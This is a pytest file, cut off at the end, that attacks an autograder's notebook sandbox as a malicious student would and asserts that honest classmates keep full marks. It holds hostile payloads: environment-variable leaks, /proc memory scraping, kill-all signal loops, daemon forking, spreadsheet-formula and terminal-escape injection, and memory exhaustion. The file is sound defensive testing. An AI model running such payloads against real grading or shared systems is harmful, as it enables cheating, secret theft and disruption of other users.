"""Isolation, attacked as a student who wants marks for nothing or to hurt a classmate would:
each attack is a real notebook graded through `course grade` (the CLI, in this process), and
each proves one property of the sandbox (autograder.sandbox). Victims are honest solutions
graded after (or beside) the attacker: they must keep full marks."""
from __future__ import annotations

import copy
import hashlib
import json
import os
import signal
import socket
import threading
from dataclasses import replace
from pathlib import Path

import nbformat
import pytest

from autograder import sandbox
from autograder.build import dumps
from autograder.cli import main
from autograder.report import read_results
from tests.conftest import ROOT, full_marks, lost_checks

LAB, FIRST = "backprop", "worked_example"        # the lab the attacks use, and its first answer cell
SECRET = "s3cret-grader-token-5521"


def _solution(course):
    return nbformat.read(course.solution_path(LAB), as_version=4)


def _with(nb, code: str, cell: str = FIRST, replace: bool = False):
    """A copy of `nb` whose answer cell `cell` runs `code` first (or only `code`)."""
    nb = copy.deepcopy(nb)
    target = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == cell)
    target.source = code if replace else code + "\n\n" + target.source
    return nb


def _grade(root, out, *args) -> tuple[int, dict]:
    rc = main(["grade", str(root), "--out", str(out), "--no-gradebook", *args])
    return rc, {student: r for (student, _), r in read_results(out).items()}


def _write(root, student: str, nb, lab: str = LAB):
    (root / student).mkdir(parents=True, exist_ok=True)
    path = root / student / f"{lab}.ipynb"
    path.write_text(dumps(nb))
    return path



def _digest(path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


# --- one class, graded in order by one worker: attackers first, then an honest victim -------

# a daemon that outlives its notebook, double-forked into its own session, and keeps a mark in
# the sandbox's /tmp: if it survived into the next notebook, the victim's check below would see it
DAEMON = """
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        while True:
            open('/tmp/daemon-was-here', 'w').write(str(os.getpid()))
            time.sleep(0.05)
    os._exit(0)
os.wait()
time.sleep(0.3)
"""
# the victim's first answer cell asserts that no daemon of a classmate is alive: its mark is
# gone (the wipe) and does not come back
ALONE = """
import os, time
for _ in range(3):
    assert not os.path.exists('/tmp/daemon-was-here'), 'a classmate left a daemon running'
    time.sleep(0.1)
"""


PLANT = """
import os
os.makedirs('/tmp/bdb', exist_ok=True)
open('/tmp/bdb/__init__.py', 'w').write('raise SystemExit(3)')
os.chmod('/tmp/bdb', 0o555)
"""
READ_PREVIOUS = """
import gc, re
_pattern = re.compile(rb'marker-privat[e]-4242')     # (the pattern never matches its own text)
_prev = [repr(o) for o in gc.get_objects() if isinstance(o, dict) and ('outcomes' in o or 'cells' in o)]
_found = [p for p in _prev if _pattern.search(p.encode())]
with open('/proc/self/maps') as _maps, open('/proc/self/mem', 'rb', 0) as _mem:
    for _line in _maps:
        _f = _line.split()
        if 'rw' not in _f[1] or (len(_f) > 5 and _f[5].startswith('/')):
            continue
        _a, _b = (int(x, 16) for x in _f[0].split('-'))
        if _b - _a > (1 << 30):
            continue
        try:
            _mem.seek(_a)
            _found += [m.group(0).decode() for m in _pattern.finditer(_mem.read(_b - _a))]
        except (OSError, ValueError, OverflowError):
            continue
raise RuntimeError('PREV ' + ' '.join(_found)[:300])
"""
# red team, round 2: kernel objects left for the next notebook (System V, POSIX queues, keys)
IPC_LEAVE = """
import ctypes, os
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmget(0x1236, ctypes.c_size_t(4000 << 20), 0o1000 | 0o600)
_libc.msgget(0x1234, 0o1000 | 0o600)
_libc.semget(0x1235, 4, 0o1000 | 0o600)
_libc.syscall(248, b'user', b'leftover', b'left-by-a-classmate', 19, ctypes.c_int(-4))
"""
IPC_OBSERVE = """
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
assert _libc.shmget(0x1236, 0, 0) == -1, 'a classmate left a shared memory segment'
assert _libc.msgget(0x1234, 0) == -1, 'a classmate left a message queue'
assert _libc.semget(0x1235, 0, 0) == -1, 'a classmate left a semaphore set'
assert _libc.syscall(250, 10, ctypes.c_int(-4), b'user', b'leftover', 0) == -1, 'a classmate left a key'
"""
FORMULA = """
_Evil = type('=HYPERLINK("http://127.0.0.1/x","click")\\x1b[2K\\x1b[3A', (BaseException,), {})
def worked_example(lr=0.01):
    raise _Evil('\\x1b[1G<script>alert(1)</script>')
"""


@pytest.fixture(scope="module")
def port():
    """A server on this machine's loopback: no sandbox may reach it."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen(8)
    server.settimeout(0.2)
    seen, stop = [], threading.Event()

    def serve():
        while not stop.is_set():
            try:
                conn, _ = server.accept()
                seen.append(conn.recv(100))
                conn.close()
            except OSError:
                continue
    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], seen
    stop.set()
    thread.join()
    server.close()


@pytest.fixture(scope="module")
def attacked(course, tmp_path_factory, port):
    port_number, seen = port
    mp = pytest.MonkeyPatch()
    mp.setenv("COURSE_SECRET_TOKEN", SECRET)            # the grader's environment
    solution, blank = _solution(course), nbformat.read(course.exercise_path(LAB), as_version=4)
    root, out = tmp_path_factory.mktemp("class"), tmp_path_factory.mktemp("out")
    solutions_file = course.solution_path(LAB)
    checks_file = ROOT / "autograder" / "checks" / f"{LAB}.py"
    before = {p: _digest(p) for p in (solutions_file, checks_file)}
    attacks = {
        # the reference solution, imported into a blank notebook
        "a-import-reference": _with(blank, f"from reference.{LAB} import *\nfrom reference import {LAB} as _r",
                                    replace=True),
        # rewrite the source notebook every classmate is graded against, and a check module
        "b-rewrite-sources": _with(blank, f"""
for _path in [{str(solutions_file)!r}, {str(checks_file)!r}, '/course/autograder/checks/{LAB}.py']:
    try:
        open(_path, 'a').write('\\n# hacked\\n')
    except OSError:
        pass
"""),
        "c-daemon": _with(blank, DAEMON),
        # the grader's environment and the solution's code, into a feedback message
        "d-leak-env": _with(blank, "raise RuntimeError(' '.join(f'{k}={v}' for k, v in __import__('os').environ.items()))",
                            replace=True),
        "e-leak-solution": _with(blank, f"raise RuntimeError(open({str(ROOT / 'reference' / (LAB + '.py'))!r}).read())",
                                 replace=True),
        "f-network": _with(blank, f"""
import socket
try:
    socket.create_connection(('127.0.0.1', {port_number}), timeout=2).sendall(b'leak')
except OSError:
    pass
"""),
        "g-kill-everyone": _with(blank, "import os, signal\nfor _p in range(2, 400):\n    try:\n        os.kill(_p, signal.SIGCONT)\n"
                                        "    except OSError:\n        pass"),
        "z-victim": _with(solution, ALONE),
    }
    # cells the student added that claim to be checks (nbgrader grade metadata, real check names)
    fake = copy.deepcopy(blank)
    for name in course.lab(LAB).checks:
        for gid in (name, f"check_{name}"):
            cell = nbformat.v4.new_code_cell("pass")
            cell.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": True, "grade_id": gid,
                                         "points": 99, "schema_version": 3}
            fake.cells.insert(1, cell)
    attacks["j-fake-checks"] = fake
    # red team: a read-only package planted in /tmp, imported by every later notebook's IPython
    attacks["m-plant-bdb"] = _with(solution, PLANT)
    # red team: the previous student's reply, looked for in this process's memory
    attacks["k-marker"] = _with(solution, "raise ValueError('marker-private-4242')", cell="sigmoid_grad", replace=True)
    attacks["l-read-previous"] = _with(blank, READ_PREVIOUS, replace=True)
    # red team: an exception class named as a spreadsheet formula and a terminal escape
    attacks["n-formula"] = _with(blank, FORMULA, replace=True)
    attacks["o-ipc-leave"] = _with(solution, IPC_LEAVE)
    attacks["p-ipc-observe"] = _with(solution, IPC_OBSERVE)
    for student, nb in attacks.items():
        _write(root, student, nb)
    # a symlinked submission (to a classmate's notebook) and a folder that is a link
    (root / "h-symlink").mkdir()
    (root / "h-symlink" / f"{LAB}.ipynb").symlink_to(root / "z-victim" / f"{LAB}.ipynb")
    (root / "i-linked-folder").symlink_to(root / "z-victim")
    rc, results = _grade(root, out, "--jobs", "1")
    mp.undo()
    return rc, results, before, seen, out


def test_an_honest_classmate_graded_after_every_attack_keeps_full_marks(attacked):
    rc, results, *_ = attacked
    victim = results["z-victim"]
    assert full_marks(victim), lost_checks(victim)
    assert victim.sandboxed and not victim.grader_error


def test_the_reference_solution_is_not_importable(attacked):
    result = attacked[1]["a-import-reference"]
    assert result.score == 0
    assert "ModuleNotFoundError: No module named 'reference'" in result.checks[0].message


def test_the_sources_every_classmate_is_graded_against_cannot_be_changed(attacked):
    _, results, before, *_ = attacked
    assert {p: _digest(p) for p in before} == before
    assert results["b-rewrite-sources"].score == 0


def test_a_daemon_dies_with_its_notebook(attacked):
    # the victim's ALONE cell (graded next, in the same worker) found no process and no file
    assert attacked[1]["z-victim"].checks[0].passed


def test_feedback_never_carries_the_graders_environment_or_the_solution(attacked):
    _, results, *_ = attacked
    env_message = results["d-leak-env"].checks[0].message
    assert "RuntimeError: PATH=" in env_message                 # the sandbox's own environment, only
    assert SECRET not in env_message and "COURSE_SECRET_TOKEN" not in env_message and str(ROOT) not in env_message
    solution_message = results["e-leak-solution"].checks[0].message
    assert "FileNotFoundError: [Errno 2] No such file or directory" in solution_message, solution_message


def test_cells_a_student_adds_are_never_checks(attacked):
    result = attacked[1]["j-fake-checks"]
    assert result.score == 0 and result.max_score == 13 and [c.name for c in result.checks] == list(
        attacked[1]["z-victim"].checks[i].name for i in range(len(result.checks)))


def test_nothing_a_notebook_plants_in_tmp_reaches_the_next_one(attacked):
    planter = attacked[1]["m-plant-bdb"]
    assert full_marks(planter)       # its own notebook ran; the victim after it too
    assert full_marks(attacked[1]["z-victim"])


def test_the_previous_students_results_are_not_in_memory(attacked):
    assert not attacked[1]["k-marker"].checks[-1].passed
    message = attacked[1]["l-read-previous"].checks[0].message
    assert "RuntimeError: PREV" in message and "marker-private-4242" not in message, message


def test_kernel_objects_die_with_their_notebook(attacked):
    observer = attacked[1]["p-ipc-observe"]
    assert full_marks(observer), lost_checks(observer)


def test_messages_carry_no_formula_and_no_escape_sequence(attacked):
    _, results, _, _, out = attacked
    message = results["n-formula"].checks[0].message
    assert "\x1b" not in message and "HYPERLINK" in message
    csv_text = (out / "grades.csv").read_text()
    assert "\x1b" not in csv_text
    assert message.startswith('=HYPERLINK')                     # as the student wrote it, in the JSON
    import csv
    messages = [row["message"] for row in csv.DictReader(csv_text.splitlines())]
    assert "'" + message in messages                             # quoted in the CSV: text, not a formula
    assert not any(m[:1] in "=+-@" and m for m in messages)


def test_no_network(attacked):
    assert attacked[3] == []          # the loopback server saw nothing


def test_a_symlinked_submission_is_refused_with_a_message(attacked):
    _, results, *_ = attacked
    for student in ("h-symlink", "i-linked-folder"):
        result = results[student]
        assert result.score == 0
        assert result.checks[0].message.startswith("not graded: refused: the submission is a symbolic link"), student


def test_results_are_signed_and_a_forged_one_is_regraded(attacked, tmp_path):
    _, results, _, _, out = attacked
    forged = out / "results" / "a-import-reference" / f"{LAB}.json"
    data = json.loads(forged.read_text())
    for check in data["checks"]:
        check["points"], check["message"] = check["max_points"], ""
    data["score"] = data["max_score"]
    forged.write_text(json.dumps(data))                      # same fingerprint, no valid signature
    (out / "results" / "a-victim-copy").mkdir()
    assert ("a-import-reference", LAB) not in read_results(out)
    assert ("z-victim", LAB) in read_results(out)


# --- workers attacked from a notebook, and workers that die or stop ----------------------

# every process the notebook can name, signalled, re-limited and re-niced (red team, round 2):
# the worker and the zygote are outside its PID namespace, so none of it lands
HARASS = """
import os, resource, signal, time
_me = os.getpid()
for _round in range(30):
    for _p in [int(p) for p in os.listdir('/proc') if p.isdigit()] + list(range(1, 80)):
        if _p == _me:
            continue
        for _call in (lambda p: resource.prlimit(p, resource.RLIMIT_FSIZE, (1 << 20, 1 << 20)),
                      lambda p: os.setpriority(os.PRIO_PROCESS, p, 19),
                      lambda p: os.sched_setaffinity(p, {0}),
                      lambda p: os.kill(p, signal.SIGSTOP),
                      lambda p: os.kill(p, signal.SIGKILL)):
            try:
                _call(_p)
            except (OSError, ValueError):
                pass
    time.sleep(0.1)
"""


@pytest.fixture(scope="module")
def survived(course, tmp_path_factory):
    solution, blank = _solution(course), nbformat.read(course.exercise_path(LAB), as_version=4)
    root, out = tmp_path_factory.mktemp("workers"), tmp_path_factory.mktemp("out")
    slow_victim = _with(solution, "import time\ntime.sleep(4)")     # overlaps the attackers below
    notebooks = {
        "a-harass": _with(blank, HARASS, replace=True),
        "b-victim": slow_victim,
        "c-kill-all": _with(blank, "import os, signal\nfor _ in range(20):\n    try:\n        os.kill(-1, signal.SIGKILL)\n"
                                   "    except OSError:\n        pass", replace=True),
        "d-victim": solution,
        "e-victim": solution,
    }
    for student, nb in notebooks.items():
        _write(root, student, nb)
    rc, results = _grade(root, out, "--jobs", "2")
    return rc, results, out


def test_a_classmate_running_beside_or_after_an_attacker_is_untouched(survived):
    rc, results, _ = survived
    for student in ("b-victim", "d-victim", "e-victim"):
        assert full_marks(results[student]), (student, lost_checks(results[student]))


def test_a_notebook_cannot_reach_its_worker(survived):
    rc, results, _ = survived
    assert rc == 0                                   # no worker was lost
    for student in ("a-harass", "c-kill-all"):
        assert not results[student].grader_error and results[student].score == 0, student


def _descendants(root: int) -> list[int]:
    parents = {}
    for p in os.listdir("/proc"):
        try:
            parents[int(p)] = int(open(f"/proc/{p}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            continue
    found, frontier = [], [root]
    while frontier:
        kids = [p for p, parent in parents.items() if parent in frontier]
        found += kids
        frontier = kids
    return found


def _workers() -> list[int]:
    """The sandboxed workers of this process, by pid (as this process sees them)."""
    pids = []
    for pid in _descendants(os.getpid()):
        try:
            argv = open(f"/proc/{pid}/cmdline", "rb").read().split(b"\0")
            if b"autograder.worker" in argv and not argv[0].endswith(b"bwrap"):
                pids.append(pid)
        except OSError:
            continue
    return pids


def test_a_worker_warms_up_for_the_labs_it_grades(course, fresh_workers, monkeypatch):
    """A worker imports, before its first notebook, what the labs it grades use: torch._dynamo and
    torchvision (2 s) only for labs that train or use torchvision, the MNIST split only where read
    (grade.warm_up_plan, from the source notebook and the lab's checks). A tensors worker maps no
    torchvision and grades the solution to full marks; labs not known ahead (Graders without
    `labs`) or a source that cannot be read get everything (a Dask worker's: test_cluster)."""
    from autograder.grade import Graders, warm_up_plan
    assert warm_up_plan(course, ["tensors"]) == (("tensors",), ("sklearn",))
    assert warm_up_plan(course, ["tensors", "detection", "tensors"]) == (("detection", "tensors"), ("dynamo", "sklearn"))
    assert warm_up_plan(course, ["convolution"]) == (("convolution",), ("mnist",))
    assert warm_up_plan(course, ["vgg"]) == (("vgg",), ("dynamo", "mnist"))
    assert sandbox.warm_arguments(sandbox.SandboxOptions()) == []
    with Graders(course, 1, "cpu", labs=("tensors",)) as graders:
        worker = graders.idle.get()
        worker.wait_ready()
        graders.idle.put(worker)
        pids = _workers()                 # the worker and its zygote
        assert pids and all("--labs" in open(f"/proc/{pid}/cmdline").read().split("\0") for pid in pids)
        for pid in pids:
            with open(f"/proc/{pid}/maps") as f:
                assert "/torchvision/" not in f.read()
        assert full_marks(graders.grade("ann", course.lab("tensors"), course.solution_path("tensors")))
    monkeypatch.setattr(type(course), "solution_path", lambda self, lab_id, language=None: Path("/no/such.ipynb"))
    assert warm_up_plan(course, ["tensors"]) == (("tensors",), ("dynamo", "mnist", "sklearn"))


def test_a_worker_kept_for_the_next_run_brings_it_nothing_of_the_last(course, fresh_workers, tmp_path, monkeypatch):
    """Where a process keeps its workers between runs (sandbox.keep_workers: this suite does),
    the next run takes the warm worker instead of launching one, and an attacker graded in one
    run leaves nothing in it for a classmate graded in the next; a kept worker stopped while
    idle is never handed out; and a kept worker, warmed up for every lab, grades another lab's run."""
    pool = sandbox.WorkerPool(keep=1)
    monkeypatch.setattr(sandbox, "POOL", pool)
    launched, launch = [], sandbox.Worker.launch
    monkeypatch.setattr(sandbox.Worker, "launch", lambda self: (launched.append(self.slot), launch(self))[1])
    attack = _with(_solution(course), "import builtins, os, sys\nbuiltins.PLANTED = sys.modules['PLANTED'] = 1\n"
                                      "os.environ['PLANTED'] = '1'\nopen('/tmp/planted.py', 'w').write('x = 1')")
    honest = _with(_solution(course), "import builtins, os, sys\nassert not hasattr(builtins, 'PLANTED') and "
                                      "'PLANTED' not in sys.modules and 'PLANTED' not in os.environ\n"
                                      "assert not os.path.exists('/tmp/planted.py')")
    try:
        for run, (student, nb) in enumerate((("mallory", attack), ("ann", honest), ("bob", honest))):
            if run == 2:              # stopped while idle in the pool: closed, a new one launched
                [kept] = pool._idle
                os.kill(next(p for p in _workers() if kept.proc.pid in _ancestors(p)), signal.SIGSTOP)
            _write(tmp_path / str(run), student, nb)
            rc, results = _grade(tmp_path / str(run), tmp_path / f"out{run}", "--jobs", "1")
            assert rc == 0 and full_marks(results[student]), lost_checks(results[student])
            assert len(launched) == (1 if run < 2 else 2), launched
        assert launched == [0, 0]     # the stopped one's slot, free again
        [kept] = pool._idle
        assert kept.options.warm is None          # a pool's workers warm up for every lab
        tensors = nbformat.read(course.solution_path("tensors"), as_version=4)
        _write(tmp_path / "tensors", "cy", tensors, "tensors")
        rc, results = _grade(tmp_path / "tensors", tmp_path / "out-tensors", "--jobs", "1")
        assert rc == 0 and full_marks(results["cy"]) and launched == [0, 0]   # the kept worker graded it
    finally:
        pool.close()


def test_a_kept_worker_serves_a_run_its_warm_up_covers_and_nothing_else():
    base = sandbox.SandboxOptions(warm=(("backprop", "vgg"), ("dynamo", "mnist")))
    serves = sandbox.serves
    assert serves(base, base) and serves(replace(base, warm=None), base)
    assert serves(base, replace(base, warm=(("vgg",), ("mnist",))))
    assert serves(base, replace(base, warm=(("backprop",), ())))
    assert not serves(base, replace(base, warm=(("tensors",), ())))           # a lab it did not warm up for
    assert not serves(base, replace(base, warm=(("vgg",), ("sklearn",))))     # an import it did not make
    assert not serves(base, replace(base, warm=None))                         # everything: only an all-labs worker
    for other in (replace(base, threads=2), replace(base, device="cuda"), replace(base, sandboxed=False),
                  replace(base, scratch_mb=1), replace(base, data_root=Path("/data"))):
        assert not serves(base, other) and not serves(replace(base, warm=None), other)


def test_a_pool_keeps_at_most_keep_idle_workers_and_closes_the_oldest(monkeypatch):
    monkeypatch.setattr(sandbox.Worker, "launch", lambda self: None)      # stand-ins: no process
    monkeypatch.setattr(sandbox.WorkerPool, "_healthy", staticmethod(lambda worker: True))
    closed = []
    monkeypatch.setattr(sandbox.Worker, "close", lambda self: closed.append(self.slot))
    pool, options = sandbox.WorkerPool(keep=2), sandbox.SandboxOptions()
    try:
        workers = [pool.worker(options) for _ in range(3)]
        assert [w.slot for w in workers] == [0, 1, 2]
        for worker in workers:
            pool.give_back(worker)
        assert closed == [0] and [w.slot for w in pool._idle] == [1, 2]
        pool.keep = 0
        lent = pool.worker(options)
        assert lent.slot == 1                               # the oldest idle one is lent first
        pool.give_back(lent)                                # keep=0: every idle worker closed, oldest first
        assert closed == [0, 2, 1] and pool._idle == []
    finally:
        pool.close()


def test_a_pools_workers_never_share_a_slot_even_when_it_is_closed_mid_run(monkeypatch):
    """A slot is a uid: two live workers of one pool never hold the same one, even where the pool
    is closed while a worker is lent to a run (that worker is closed when given back)."""
    monkeypatch.setattr(sandbox.Worker, "launch", lambda self: None)      # no process: slots only
    pool, options = sandbox.WorkerPool(keep=2), sandbox.SandboxOptions()
    try:
        lent = pool.worker(options)
        pool.close()
        new = pool.worker(options)
        assert new.slot != lent.slot
        pool.give_back(lent)              # launched before the close: closed, its slot free again
        assert pool._idle == [] and pool.worker(options).slot not in (new.slot,)
    finally:
        pool.close()


def _ancestors(pid: int) -> list[int]:
    found = []
    while pid > 1:
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
        found.append(pid)
    return found


def test_a_run_whose_labs_score_no_accuracy_never_imports_torch_in_the_grading_process(course, tmp_path):
    """`course grade` of labs without scored checks: the grading process reads records, asks the
    judges and writes reports without torch (importing it cost every run 4 s); the workers and
    the judges' server import it themselves. (A lab with scored checks imports it to count.)"""
    import subprocess
    import sys
    _write(tmp_path / "class", "ann", nbformat.read(course.solution_path("tensors"), as_version=4), "tensors")
    script = ("import sys\nfrom autograder.cli import main\n"
              f"rc = main(['grade', {str(tmp_path / 'class')!r}, '--out', {str(tmp_path / 'out')!r}, '--no-gradebook'])\n"
              "print('torch' in sys.modules, rc)")
    proc = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=300, cwd=ROOT)
    assert proc.stdout.split()[-2:] == ["False", "0"], proc.stdout + proc.stderr[-2000:]
    [result] = read_results(tmp_path / "out").values()
    assert full_marks(result) and not result.grader_error


def test_a_killed_or_stopped_worker_costs_only_the_submission_it_held(course, fresh_workers, tmp_path, monkeypatch):
    """The grader kills and stops its own workers mid-notebook (what a kernel bug, the OOM
    killer or an operator could do): each loses one submission, the class is graded."""
    import time
    monkeypatch.setattr(sandbox, "SILENCE_LIMIT", 6.0)   # heartbeats come every second
    solution = _solution(course)
    root, out = tmp_path / "class", tmp_path / "out"
    for student in ("a-killed", "b-stopped"):
        _write(root, student, _with(solution, "import time\ntime.sleep(6)"))
    _write(root, "c-victim", solution)
    done = threading.Event()

    def strike():
        struck = set()
        for sig in (signal.SIGKILL, signal.SIGSTOP):
            while not done.is_set():          # a worker running a notebook: its zygote, a child, the job
                busy = [w for w in _workers() if w not in struck and len(_descendants(w)) >= 3]
                if busy:
                    time.sleep(1.0)
                    if len(_descendants(busy[0])) < 3:
                        continue      # a start-up's passing subprocess (ldconfig & co.), not a notebook
                    os.kill(busy[0], sig)
                    struck.add(busy[0])
                    break
                time.sleep(0.1)

    striker = threading.Thread(target=strike, daemon=True)
    striker.start()
    rc, results = _grade(root, out, "--jobs", "1")
    done.set()
    striker.join()
    assert rc == 3
    assert "died" in results["a-killed"].grader_error, results["a-killed"].grader_error
    assert "stopped answering" in results["b-stopped"].grader_error, results["b-stopped"].grader_error
    assert full_marks(results["c-victim"])
    assert (out / "grades.csv").exists() and len(results) == 3


# --- memory, counted over every process a notebook starts ------------------------------------

def test_a_grandchild_cannot_escape_the_memory_limit(course, tmp_path):
    grandchild = ("import subprocess, sys\nsubprocess.run([sys.executable, '-c', "
                  "'import time; b = bytearray(2500 << 20); b[::4096] = b\"x\" * len(b[::4096]); time.sleep(30)'])")
    # red team: memory in memfd files is mapped by no process
    memfd = ("import os, time\n_fds = []\nfor _i in range(3):\n    _fd = os.memfd_create(f'm{_i}')\n"
             "    for _j in range(7):\n        os.write(_fd, b'\\x01' * (64 << 20))\n    _fds.append(_fd)\ntime.sleep(30)")
    root, out = tmp_path / "class", tmp_path / "out"
    _write(root, "hog", _with(_solution(course), grandchild))
    _write(root, "memfd", _with(_solution(course), memfd))
    # red team: a process that makes itself non-dumpable, so that its memory cannot be read
    hide = "import ctypes\nctypes.CDLL(None).prctl(4, 0, 0, 0, 0)\n" + memfd
    _write(root, "nondumpable", _with(_solution(course), hide))
    rc, results = _grade(root, out, "--memory-mb", "1000", "--cell-timeout", "60")
    for student in ("hog", "memfd"):
        first = results[student].checks[0]
        assert rc == 0 and not first.passed
        assert first.message.endswith(": the notebook used more than 1000 MB of memory"), (student, first.message)
    assert results["nondumpable"].checks[0].message.endswith(
        ": a process of the notebook hid its memory from the grader (PR_SET_DUMPABLE 0)")


# --- input hygiene ------------------------------------------------------------------------

def test_huge_and_deeply_nested_files_get_one_line_each(course, tmp_path):
    root, out = tmp_path / "class", tmp_path / "out"
    (root / "huge").mkdir(parents=True)
    with open(root / "huge" / f"{LAB}.ipynb", "wb") as f:
        f.truncate(21 << 20)
    (root / "nested").mkdir()
    (root / "nested" / f"{LAB}.ipynb").write_text('{"cells": ' + "[" * 100000 + "]" * 100000 + "}")
    (root / "odd").mkdir()
    odd = _solution(course)
    odd.cells[0].metadata["nbgrader"] = "not a dict"
    odd.cells[1].metadata["nbgrader"] = {"grade_id": ["a", "list"], "grade": "yes"}
    (root / "odd" / f"{LAB}.ipynb").write_text(json.dumps(odd))
    (root / "fifo").mkdir()        # red team: the fingerprint read it whole first, and a FIFO blocked the class
    os.mkfifo(root / "fifo" / f"{LAB}.ipynb")
    graded = {}
    grading = threading.Thread(target=lambda: graded.update(zip(("rc", "results"), _grade(root, out))))
    grading.start()
    grading.join(300)
    if grading.is_alive():
        try:                                                  # let the blocked reader go
            os.close(os.open(root / "fifo" / f"{LAB}.ipynb", os.O_WRONLY | os.O_NONBLOCK))
        except OSError:
            pass
        grading.join()
        pytest.fail("a FIFO named like a notebook blocked the grading of the class")
    rc, results = graded["rc"], graded["results"]
    assert rc == 0
    assert results["fifo"].checks[0].message.startswith("not graded: refused: the submission is not a regular file")
    assert results["huge"].checks[0].message.startswith("not graded: refused: the file is 21.0 MB, over the 20 MB limit")
    assert results["nested"].checks[0].message.startswith("not graded: not a notebook: JSON nested too deeply")
    assert full_marks(results["odd"])      # the source decides what is graded


# --- no sandbox: refuse, or grade with every result saying so -------------------------------

def test_without_bubblewrap_grading_refuses_with_one_line(course, tmp_path, monkeypatch, capsys):
    monkeypatch.setattr(sandbox.shutil, "which", lambda name: None)
    _write(tmp_path / "class", "s", _solution(course))
    rc = main(["grade", str(tmp_path / "class"), "--out", str(tmp_path / "out"), "--no-gradebook"])
    err = capsys.readouterr().err.strip().splitlines()
    assert rc == 2 and len(err) == 1
    assert err[0].startswith("course: error: no sandbox: bubblewrap (bwrap) is not installed; install bubblewrap")
    assert "--unsafe-no-sandbox" in err[0]


def test_unsafe_no_sandbox_grades_and_every_result_says_so(course, tmp_path):
    _write(tmp_path / "class", "s", _solution(course))
    rc, results = _grade(tmp_path / "class", tmp_path / "out", "--unsafe-no-sandbox")
    result = results["s"]
    assert rc == 0 and full_marks(result)
    assert not result.sandboxed and any("WITHOUT a sandbox" in n for n in result.notes)


def test_unsandboxed_workers_leave_no_folder_in_tmp_even_when_killed(course, tmp_path, monkeypatch):
    """Unsandboxed workers share /tmp, each with a folder of its own. Closing a worker kills it
    (SIGKILL), so it cannot remove its folder: every run left one per worker, and one more per
    worker a notebook killed. The grader makes and removes them now."""
    import tempfile
    scratch = tmp_path / "tmp"
    scratch.mkdir()
    monkeypatch.setenv("TMPDIR", str(scratch))          # this process's folders and the workers'
    monkeypatch.setattr(tempfile, "tempdir", None)
    _write(tmp_path / "class", "a-kills-its-worker", _with(_solution(course), "import os, signal\n"
                                                          "os.kill(os.getsid(0), signal.SIGKILL)"))
    _write(tmp_path / "class", "b-honest", _solution(course))
    rc, results = _grade(tmp_path / "class", tmp_path / "out", "--unsafe-no-sandbox", "--jobs", "1")
    assert rc == 3 and full_marks(results["b-honest"])          # 3: a grader error (the lost worker)
    assert "worker died" in results["a-kills-its-worker"].grader_error
    assert [p.name for p in scratch.iterdir() if p.name.startswith("course-") and not p.name.startswith("course-judges-")] == []


# --- as an ordinary user: bwrap makes a user namespace ---------------------------------------

USER = "course-grade-test"


@pytest.fixture
def ordinary_user(tmp_path):
    """An unprivileged account that can reach the interpreter and this checkout: its folders
    get o+x for the test (restored after). Only root can make one: otherwise we are one."""
    import pwd
    import shutil
    import subprocess
    import sys
    if os.geteuid() != 0:
        yield None                                         # already an ordinary user
        return
    if not shutil.which("useradd") or not shutil.which("runuser"):
        pytest.skip("useradd/runuser not available to create an ordinary user")
    try:
        pwd.getpwnam(USER)
    except KeyError:
        subprocess.run(["useradd", "--no-create-home", "--shell", "/bin/false", USER], check=True)
    changed = {}
    for target in (os.path.realpath(sys.executable), str(ROOT / ".venv"), str(ROOT), str(tmp_path)):
        for parent in [*reversed(__import__("pathlib").Path(target).parents)]:
            mode = parent.stat().st_mode
            if not mode & 0o001:
                changed[parent] = mode
                os.chmod(parent, (mode & 0o7777) | 0o001)
    try:
        yield USER
    finally:
        for parent, mode in changed.items():
            os.chmod(parent, mode & 0o7777)


def test_an_ordinary_user_grades_in_a_user_namespace(course, tmp_path, ordinary_user):
    import shutil
    import subprocess
    import sys
    work = tmp_path / "work"
    _write(work / "class", "honest", _solution(course))
    _write(work / "class", "cheat", _with(nbformat.read(course.exercise_path(LAB), as_version=4),
                                          f"from reference.{LAB} import *", replace=True))
    course_cmd = [str(ROOT / ".venv" / "bin" / "course"), "--course", str(ROOT / "course.yml"), "grade", "class",
                  "--out", "out", "--no-gradebook", "--jobs", "1"]
    env = {"PATH": f"{ROOT / '.venv' / 'bin'}:/usr/bin:/bin", "HOME": str(work), "LANG": "C.UTF-8"}
    if ordinary_user:
        shutil.chown(tmp_path, ordinary_user)
        for path in [work, *work.rglob("*")]:
            shutil.chown(path, ordinary_user)
        course_cmd = [shutil.which("runuser"), "-u", ordinary_user, "--", *course_cmd]
    done = subprocess.run(course_cmd, cwd=work, env=env, capture_output=True, text=True, timeout=300)
    if done.returncode == 2 and "no sandbox" in done.stderr:
        pytest.skip(f"user namespaces unavailable to an ordinary user here: {done.stderr.strip()}")
    assert done.returncode == 0, done.stderr[-3000:]
    results = {s: r for (s, _), r in read_results(work / "out").items()}
    assert full_marks(results["honest"]) and results["honest"].sandboxed
    assert results["cheat"].score == 0
    assert "No module named 'reference'" in results["cheat"].checks[0].message
    assert sys.executable  # (the grader ran with this interpreter)


# --- lost metadata never gives a false zero -----------------------------------------------

def test_answers_that_lost_their_metadata_are_matched_by_content(course, tmp_path):
    def stripped(nb):
        nb = copy.deepcopy(nb)
        for cell in nb.cells:
            cell.metadata = {}
        return nb
    root, out = tmp_path / "class", tmp_path / "out"
    _write(root, "solution", stripped(_solution(course)))
    _write(root, "blank", stripped(nbformat.read(course.exercise_path(LAB), as_version=4)))
    rc, results = _grade(root, out)
    solution, blank = results["solution"], results["blank"]
    assert full_marks(solution), lost_checks(solution)
    assert any("matched to the exercise by content and order" in n for n in solution.notes)
    assert blank.score == 0
    assert all(m.startswith("not answered yet") for m in lost_checks(blank).values()), lost_checks(blank)


# --- red team, round 3: memory where the worker could not see it ----------------------------

SYSV_FILL = """
import ctypes
_libc = ctypes.CDLL(None, use_errno=True)
